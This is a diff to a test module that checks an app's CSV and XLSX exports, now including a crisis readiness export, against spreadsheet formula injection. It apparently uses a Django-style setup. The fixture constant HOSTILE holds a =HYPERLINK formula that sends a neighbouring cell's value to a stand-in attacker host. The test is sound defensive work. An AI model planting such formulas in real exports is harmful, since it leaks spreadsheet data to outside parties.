@@ -1,7 +1,8 @@
 """Every export of the app, with a hostile name in each: text is text.
 
-An outlet, its locality and the payouts' accounting code are named like a
-spreadsheet formula that sends the sheet's neighbouring cell to another site. In
+An outlet (with a crisis role), its locality and the payouts' accounting code are
+named like a spreadsheet formula that sends the sheet's neighbouring cell to another
+site. In
 every CSV the cell comes out with a leading apostrophe (a spreadsheet shows it as
 text); in every XLSX no cell is a formula and the text is intact. The list of
 exports is held against the URL patterns, so that a new export cannot be left out.
@@ -44,6 +45,8 @@ HOSTILE = '=HYPERLINK("http://evil.example/"&C3,"Öppna")'
 EXPORTS = [
     ("outlets:outlet_export", {"format": "csv"}, "csv"),
     ("outlets:outlet_export", {"format": "xlsx"}, "xlsx"),
+    ("outlets:crisis_readiness_export", {"format": "csv"}, "csv"),
+    ("outlets:crisis_readiness_export", {"format": "xlsx"}, "xlsx"),
     ("analysis:export", {"table": "localities"}, "csv"),
     ("analysis:export", {"table": "outlets"}, "csv"),
     ("analysis:export", {"table": "strategic"}, "csv"),
@@ -98,7 +101,10 @@ def hostile_world(official, shop_owner, own_outlet, nordmaling):
         ).pk
         for name, letter in ((HOSTILE, "A"), ("Utan B", "B"))
     ]
-    Outlet.objects.filter(pk=shops["A"].pk).update(name=HOSTILE)
+    # Shop A keeps food available in a crisis: it is on the crisis readiness export.
+    Outlet.objects.filter(pk=shops["A"].pk).update(
+        name=HOSTILE, crisis_role=Outlet.CrisisRole.SUPPLY
+    )
     Locality.objects.filter(pk=shops["A"].locality_id).update(name=HOSTILE)
     DeliveryFactory(outlet=shops["A"], delivered_on=date(2026, 4, 1), cost=350)
     ProgrammeSettings.objects.update_or_create(
